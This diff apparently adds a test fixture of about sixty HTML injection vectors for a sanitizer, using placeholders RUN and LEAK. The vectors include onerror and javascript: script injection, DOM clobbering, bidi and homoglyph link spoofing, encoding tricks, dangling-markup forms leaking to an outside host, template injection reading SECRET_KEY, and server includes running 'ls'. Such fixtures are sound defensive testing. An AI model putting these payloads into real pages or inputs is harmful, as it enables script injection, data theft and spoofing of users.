@@ -1,0 +1,73 @@
+"""Names our scripts might read, pasted office documents, odd characters and encodings, tricks on policies."""
+
+PICTURE = "<img src=/no-such-picture onerror=RUN>"
+VECTORS = {
+    "heading named like the main part": '<h2 id="main">Main</h2>',
+    "heading named like the menu": '<h3 id="nav">Nav</h3>',
+    "heading named like the contents": '<h2 id="contents">Contents</h2>',
+    "heading named like a source": '<h2 id="ref-1">Source</h2><h3 id="cite-1-1">Place</h3>',
+    "heading named like a field": '<h2 id="id_phone">Phone</h2>',
+    "heading named like an icon": '<h2 id="i-phone">Icon</h2>',
+    "heading named like the references": '<h2 id="references">References</h2>',
+    "heading named like another": '<h2 id="twice">One</h2><h2 id="twice">Two</h2>',
+    "heading named like a property": '<h2 id="location">A</h2><h2 id="__proto__">B</h2><h2 id="constructor">C</h2>',
+    "name with spaces": '<h2 id="two words">Words</h2>',
+    "name with a quote": '<h2 id="a&quot; onclick=&quot;RUN">Words</h2>',
+    "name with a bracket": "<h2 id='x\"><img src=/no-such-picture onerror=RUN>'>Words</h2>",
+    "form that hides the document's parts": '<form name="body"><input name="querySelector"><input id="cookie"></form>',
+    "picture that hides a method": '<img name="getElementById"><img name="querySelector"><img id="currentScript">',
+    "frames that hide a window": '<iframe name="navigator"></iframe><a id="share" name="share" href="x:1">a</a>',
+    "links that make an object": '<a id="config"></a><a id="config" name="src" href="http:LEAK">words</a>',
+    "object named like the document": '<object name="defaultView"></object><embed name="head">',
+    "word document": "<!--[if gte mso"
+    " 9]><xml><w:WordDocument><w:View>Normal</w:View></w:WordDocument></xml><![endif]-->"
+    '<p class="MsoNormal" style="mso-margin-top-alt:auto"><span lang="EN-US">Words<o:p></o:p></span></p>',
+    "word list": "<p class=MsoListParagraph style='text-indent:-.25in;mso-list:l0 level1 lfo1'><![if !supportLists]>"
+    "<span style='font-family:Symbol'>·</span><![endif]>Words</p>",
+    "word settings without a comment": "<xml>"
+    "<o:OfficeDocumentSettings><o:AllowPNG/>true</o:OfficeDocumentSettings></xml>",
+    "outlook message": '<div class="WordSection1"><v:shape style="position:fixed"><v:imagedata'
+    ' src="http:LEAK"/></v:shape>'
+    '<a href="mailto:desk@clinic.example">Words</a></div>',
+    "spreadsheet": '<meta name=ProgId content=Excel.Sheet><style><!--table {mso-x:"\\,"}--></style><table><col'
+    " width=64>"
+    "<tr><td onclick=RUN>1</td></tr></table>",
+    "web mail": '<div class="gmail_quote" onclick="RUN"><img class="gmail-img" src="cid:1" onerror="RUN">Words</div>',
+    "text processor on the web": '<b style="font-weight:normal" id="docs-internal-guid-1"><p dir="ltr">Words</p></b>',
+    "zero character in a tag": f"<im\0g src=/no-such-picture onerror=RUN><scr\0ipt>RUN</scr\0ipt>{PICTURE}",
+    "zero character in an attribute": "<img src=/no-such-picture on\0error=RUN>",
+    "zero character entity": '<a href="java&#0;script:RUN">words</a>',
+    "control characters": "<p>a\x01b\x0bc\x1fd\x7fe</p>\x08",
+    "control entities": "<p>a&#1;b&#11;c&#31;d&#127;e&#xFFFF;</p>",
+    "escape sequence of a terminal": "<p>\x1b]0;RUN\x07words</p>",
+    "direction override": "<p>pay \u202efdp.exe\u202c now</p>",
+    "direction override in a link": '<a href="https:LEAK" title="\u202emoc.cinilc">\u202emoc.cinilc\u202c</a>',
+    "direction isolates without end": "<p>\u2066\u2067\u2068words</p>",
+    "direction by entity": "<p>&#x202e;sdrow&#8297;</p>",
+    "half of a pair by entity": "<p>x&#xD800;y&#xDFFF;z</p>",
+    "last of all characters": "<p>&#x10FFFF;&#x110000;&#99999999999;</p>",
+    "line and paragraph separators": '<a href="/" title="a\u2028b\u2029c">words\u2028more</a>',
+    "invisible letters": "<p>pass\u200bword\u2060\ufeff\u00ad\U000e0041</p>",
+    "letters from other writings": '<a href="https://сlinic.example/">clinic.example</a>',
+    "seven bits": "<p>+ADw-script+AD4-RUN+ADw-/script+AD4-</p>",
+    "seven bits by tag": '<meta charset="utf-7"><p>+ADw-img src=x onerror=RUN+AD4-</p>',
+    "shift to another set": "<p>\x1b$B<img src=/no-such-picture onerror=RUN>\x1b(B</p>",
+    "too long a form": "<p>\xc0\xbcscript\xc0\xbeRUN\xc0\xbc/script\xc0\xbe</p>",
+    "wide brackets": "<p>＜script＞RUN＜/script＞ ‹img src=x onerror=RUN›</p>",
+    "old control range": "<p>a\x80b\x85c\x9bd&#128;&#133;</p>",
+    "percent for brackets": "<p>%3Cscript%3ERUN%3C/script%3E</p>",
+    "backslashes for brackets": r"<p>\x3cscript\x3eRUN\u003c/script\u003e</p>",
+    "nonce": '<script nonce="">RUN</script><script nonce="NONCE">RUN</script>',
+    "our own script again": '<script type="module" src="/static/js/share.js"></script>',
+    "script of our own host": '<script src="/articles/?callback=RUN"></script>',
+    "base for our scripts": '<base href="http:LEAK/"><script src="js/share.js"></script>',
+    "trusted types default": "<script>trustedTypes.createPolicy('default', {createHTML: x => x});RUN</script>",
+    "markup left hanging": "<img src='http:LEAK?",
+    "markup left hanging in a form": '<form action="http:LEAK"><textarea name="page">',
+    "markup left hanging in a button": '<button name="x" form="y" formaction="http:LEAK"><option>',
+    "template of angular": "<p>{{constructor.constructor('RUN')()}}</p>",
+    "template of django": "<p>{% load static %}{{ settings.SECRET_KEY }}{% include 'base.html' %}{# x #}</p>",
+    "template in a link": '<a href="{% url \'site:home\' %}" title="{{ x|safe }}">words</a>',
+    "formatting signs": '<a href="/%s%(x)s{0}{x!r}" title="%n">words {0} %s {x.__class__}</a>',
+    "server includes": '<!--#exec cmd="ls" --><!--#include virtual="/etc/hosts" --><esi:include src="http:LEAK"/>',
+}
